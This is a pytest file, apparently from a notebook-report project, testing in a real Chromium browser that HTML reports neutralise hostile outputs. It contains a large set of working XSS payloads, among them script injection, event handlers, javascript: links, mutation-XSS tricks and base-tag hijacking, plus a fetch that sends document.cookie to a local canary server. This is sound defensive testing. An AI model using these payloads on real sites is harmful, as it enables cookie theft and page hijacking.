@@ -1,0 +1,346 @@
+"""Row 23 in a real browser: whatever an output holds, it acts on nothing.
+
+Every way for an output to run a script calls ``attack()``-like code that tries to change the page,
+to reach its parent, to read another report and to send what it finds to another server.
+"""
+
+from __future__ import annotations
+
+import http.server
+import json
+import shutil
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from research_jobs.protocol import Failure
+from research_jobs.report.build import build_report, report_folder, standalone
+from research_jobs.report.gallery import GalleryEntry, NotebookCard, update_gallery
+from research_jobs.report.server import ReportServer
+
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
+
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium here"),
+    # playwright's own loop leaves sockets to the collector
+    pytest.mark.filterwarnings("ignore::ResourceWarning"),
+    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
+]
+
+
+@dataclass
+class Canary:
+    """A server that no report may reach."""
+
+    hits: list[str] = field(default_factory=list)
+    url: str = ""
+
+
+@pytest.fixture(scope="module")
+def canary() -> Iterator[Canary]:
+    found = Canary()
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            found.hits.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, *_args: object) -> None: ...
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    found.url = f"http://127.0.0.1:{server.server_address[1]}"
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield found
+    server.shutdown()
+    server.server_close()
+    thread.join()
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        made = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        yield made
+        made.close()
+
+
+def attack(canary: str) -> str:
+    """Script that does what it must not be able to, without quotes of either kind."""
+    return (
+        "window.attacked=1;"
+        "try{parent.document.title=`attacked`}catch(e){}"
+        "try{top.location.hash=`attacked`}catch(e){}"
+        "try{parent.attacked=1}catch(e){}"
+        f"fetch(`{canary}/fetch?`+document.cookie).catch(()=>0);"
+        f"new Image().src=`{canary}/image`;"
+        f"navigator.sendBeacon(`{canary}/beacon`);"
+        "for(const path of [`../../../../index.html`,`../report.html`,`report.html`])"
+        "fetch(path).then(r=>r.text()).then(t=>{window.stolen=t}).catch(()=>0);"
+    )
+
+
+def hostile(canary: str) -> dict[int, Any]:
+    """Outputs by cell: what a notebook, or the data in it, could try."""
+    code = attack(canary)
+    handler = code.replace('"', "&quot;")
+    html = [
+        f"<script>{code}</script>",
+        f'<img src=x onerror="{handler}">',
+        f'<table><tr><td onmouseover="{handler}" style="background:url({canary}/css)">x</td></tr></table>',
+        f'<svg onload="{handler}"><script>{code}</script></svg>',
+        f'<a class="bait" href="javascript:{handler}">click</a>',
+        f'<a class="bait" href="java&#10;script:{handler}">click</a>',
+        f'<iframe srcdoc="<script>{handler}</script>"></iframe>',
+        f'<form action="{canary}/form"><button class="bait">x</button></form>',
+        f"<style>@import url({canary}/import);*{{background:url({canary}/star)}}</style><p>x</p>",
+        f'<link rel=stylesheet href="{canary}/link"><meta http-equiv=refresh content="0;{canary}/meta">',
+        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={handler}&gt;">',
+        f"<noscript><p title='</noscript><img src=x onerror={handler}>'></noscript>",
+        f'</div></section></main><script>{code}</script><div id="rj-o3-1">',
+        f'<details open ontoggle="{handler}"><summary>x</summary></details>',
+        f"<table><tr><td><template><script>{code}</script></template></td></tr></table>",
+        f'<base href="{canary}/"><img src="relative.png"><object data="{canary}/object"></object>',
+        f'<p id="__proto__" class="rj-plotly"><script type="application/json">{{}}</script></p>',
+    ]
+
+    def html_outputs(recorder: Any) -> None:
+        for item in html:
+            recorder.display({"text/html": item})
+
+    def other_outputs(recorder: Any) -> None:
+        recorder.stream("stdout", f"<script>{code}</script>\x1b[31m<img src=x onerror='{code}'>")
+        for mime in ("text/plain", "text/markdown", "text/latex", "application/json"):
+            for item in html[:6]:
+                recorder.display({mime: item})
+        recorder.display({"text/markdown": f"[x](javascript:{code}) ![x]({canary}/md.png)"})
+        recorder.display(
+            {"text/latex": f"$\\text{{<script>{code}</script><img src=x onerror={code}>}}$"}
+        )
+        recorder.display({"text/latex": f"$\\href{{javascript:{code}}}{{x}}$"})
+        recorder.display({"application/javascript": code})
+        recorder.display(
+            {
+                "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{code}</script></svg>"
+            }
+        )
+        recorder.display(
+            {"image/png": f'"><script>{code}</script>'}, {"image/png": {"width": html[0]}}
+        )
+        recorder.display(
+            {
+                "application/vnd.plotly.v1+json": {
+                    "data": [
+                        {
+                            "type": "scatter",
+                            "y": [1, 2],
+                            "name": f"</script><script>{code}</script>",
+                            "text": [f'<a href="javascript:{handler}">x</a>', html[1]],
+                            "mode": "markers+text",
+                        }
+                    ],
+                    "layout": {
+                        "title": {"text": html[1]},
+                        "annotations": [
+                            {"text": f'<a href="javascript:{handler}">x</a>', "x": 0, "y": 1}
+                        ],
+                        "images": [{"source": f"{canary}/plotly.png", "x": 0, "y": 1}],
+                    },
+                }
+            }
+        )
+        recorder.error(html[0], html[1], [html[0], html[1]], 1)
+
+    return {2: html_outputs, 3: other_outputs}
+
+
+def make_reports(captures: Any, header: Any, folder: Path, canary: str) -> tuple[Path, Path]:
+    """A gallery with a report full of attacks, and an innocent one."""
+    bad = f"<script>{attack(canary)}</script>"
+    source = f"""
+        # %% [markdown]
+        # # Title {bad}
+        # <img src=x onerror='{attack(canary)}'> [x](javascript:{attack(canary)})
+        # %% Title {bad}
+        x = "</script></pre></details><script>window.attacked=1</script>"
+        # %%
+        y = 1
+        """
+    run = header(
+        ending="failed",
+        partition=bad,
+        parameters={bad: bad},
+        skip_reason=bad,
+        path=bad,
+        code_version=bad,
+        git_commit=bad,
+        run_url=f"javascript:{attack(canary)}",
+        notes=(bad,),
+        failure=Failure(headline=bad, traceback=bad, line=1),
+    )
+    capture = captures.write(source, hostile(canary), status={3: "error"}, end="failed")
+    report = build_report(capture, run, report_folder(folder, run), reports=folder)
+    card = NotebookCard(
+        "volatility/garch", bad, bad, {bad: bad}, (bad,), schedule=bad, url=f"javascript:{bad}"
+    )
+    update_gallery(folder, GalleryEntry(card, run, report))
+    return folder, report.html
+
+
+def visit(browser: Any, address: str) -> Any:
+    """Open a page, press everything in it, and wait until it is quiet."""
+    page = browser.new_page()
+    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
+    page.goto(address)
+    height = page.evaluate("document.documentElement.scrollHeight")
+    for place in range(0, height, 600):
+        page.evaluate(f"window.scrollTo(0, {place})")
+        page.wait_for_timeout(30)
+    page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
+    page.evaluate("document.querySelectorAll('[class*=bait]').forEach(a => a.click())")
+    page.wait_for_timeout(400)
+    return page
+
+
+def assert_untouched(page: Any, canary: Canary) -> None:
+    assert page.evaluate("window.attacked") is None
+    assert page.evaluate("window.stolen") is None
+    assert page.title() != "attacked"
+    assert not page.url.endswith("#attacked")
+    for frame in page.frames[1:]:
+        # Its scripts may run, on an origin of its own, from which nothing is reached.
+        assert frame.evaluate("self.origin") == "null"
+        assert frame.evaluate("window.stolen") is None
+    assert canary.hits == []
+
+
+def test_the_attack_works(browser, canary, tmp_path):
+    """Where nothing holds it back, the attack does what the other tests look for."""
+    (tmp_path / "bare.html").write_text(f"<img src=x onerror='{attack(canary.url)}'>")
+    page = browser.new_page()
+    page.goto((tmp_path / "bare.html").as_uri())
+    page.wait_for_timeout(400)
+    assert page.evaluate("window.attacked") == 1
+    assert page.title() == "attacked"
+    assert canary.hits
+    canary.hits.clear()
+    page.close()
+
+
+@pytest.mark.parametrize("way", ["served", "file"])
+def test_report(browser, canary, captures, header, tmp_path, way):
+    """No output of a report acts on its page, another report or another server."""
+    folder, html = make_reports(captures, header, tmp_path / "reports", canary.url)
+    with ReportServer(folder, port=0) as server:
+        base = server.url if way == "served" else folder.as_uri()
+        page = visit(browser, f"{base}/{html.relative_to(folder).as_posix()}")
+        assert_untouched(page, canary)
+        # The page itself works: the chart is drawn, and frames ran what they hold.
+        assert page.locator(".rj-plotly .plot-container").count() == 1
+        assert any(frame.evaluate("window.attacked") == 1 for frame in page.frames[1:])
+        page.close()
+
+
+@pytest.mark.parametrize("way", ["served", "file"])
+@pytest.mark.parametrize("name", ["index.html", "volatility/garch/index.html"])
+def test_gallery(browser, canary, captures, header, tmp_path, way, name):
+    """Names, tags, owners and headlines are text in the gallery."""
+    folder, _ = make_reports(captures, header, tmp_path / "reports", canary.url)
+    with ReportServer(folder, port=0) as server:
+        base = server.url if way == "served" else folder.as_uri()
+        page = visit(browser, f"{base}/{name}")
+        assert_untouched(page, canary)
+        assert "<script>" in page.inner_text("body")
+        page.close()
+
+
+def test_frame_by_itself(browser, canary, captures, header, tmp_path):
+    """A frame's page that is opened by itself does not act, and goes nowhere."""
+    folder, html = make_reports(captures, header, tmp_path / "reports", canary.url)
+    with ReportServer(folder, port=0) as server:
+        for frame in sorted((html.parent / "frames").iterdir()):
+            page = browser.new_page()
+            page.goto(f"{server.url}/{frame.relative_to(folder).as_posix()}")
+            page.wait_for_timeout(150)
+            assert page.url.startswith(server.url)
+            assert page.evaluate("window.attacked") is None
+            page.close()
+    assert canary.hits == []
+
+
+def test_standalone(browser, canary, captures, header, tmp_path):
+    """The file to mail is as harmless, and draws its chart without other files."""
+    _, html = make_reports(captures, header, tmp_path / "reports", canary.url)
+    alone = tmp_path / "alone"
+    alone.mkdir()
+    (alone / "mail.html").write_text(standalone(html))
+    page = visit(browser, (alone / "mail.html").as_uri())
+    assert_untouched(page, canary)
+    assert page.locator(".rj-plotly .plot-container").count() == 1
+    page.close()
+
+
+def test_gallery_search(browser, captures, header, tmp_path):
+    """The gallery finds notebooks by words, group, tag and owner, from a file."""
+    folder = tmp_path / "reports"
+    for name, group, owner in (("alpha", "one", "ana"), ("beta/gamma", "two", "ivo")):
+        run = header(notebook=name)
+        report = build_report(
+            captures.write("# %%\nx = 1\n"), run, report_folder(folder, run), reports=folder
+        )
+        card = NotebookCard(name, f"About {name}", group, {"daily": ""}, (owner,))
+        update_gallery(folder, GalleryEntry(card, run, report))
+    page = browser.new_page()
+    page.goto((folder / "index.html").as_uri())
+    assert page.locator(".rg-card").count() == 2
+    page.fill("input[type=search]", "about GAMMA")
+    assert page.locator(".rg-title").all_inner_texts() == ["beta/gamma"]
+    page.fill("input[type=search]", "")
+    page.select_option("select[aria-label='Any owner']", "ana")
+    assert page.locator(".rg-title").all_inner_texts() == ["alpha"]
+    page.click(".rg-title")
+    assert page.locator(".rg-runs tbody tr").count() == 1
+    page.click(".rg-runs tbody a")
+    assert page.locator("h1").inner_text() == "alpha"
+    assert json.loads(page.evaluate("JSON.stringify(document.title)")) == "alpha"
+    page.close()
+
+
+@pytest.mark.parametrize("width", [1280, 390])
+def test_nothing_hangs_out(browser, captures, header, show, tmp_path, width):
+    """However wide its tables and texts are, the page itself never scrolls sideways."""
+    cells = "".join(f"<td>{'x' * 20}</td>" for _ in range(60))
+
+    def wide(recorder: Any) -> None:
+        recorder.display({"text/html": f"<table><tr>{cells}</tr></table>"})
+        recorder.stream("stdout", "y" * 2000 + "\n")
+        recorder.display({"text/plain": "z" * 2000})
+        recorder.error("E" * 200, "m" * 2000, ["t" * 2000], 1)
+
+    capture = captures.write(
+        "# %% [markdown]\n# # " + "H" * 200 + "\n# %%\n" + "x = '" + "s" * 500 + "'\n",
+        {2: wide},
+        status={2: "error"},
+    )
+    report = build_report(
+        capture,
+        header(
+            parameters={"p" * 100: "v" * 400}, failure=Failure(headline="h" * 500), ending="failed"
+        ),
+        tmp_path / "out",
+    )
+    page = browser.new_page(viewport={"width": width, "height": 800})
+    page.goto(report.html.as_uri())
+    assert page.evaluate("document.documentElement.scrollWidth") <= width
+    page.close()
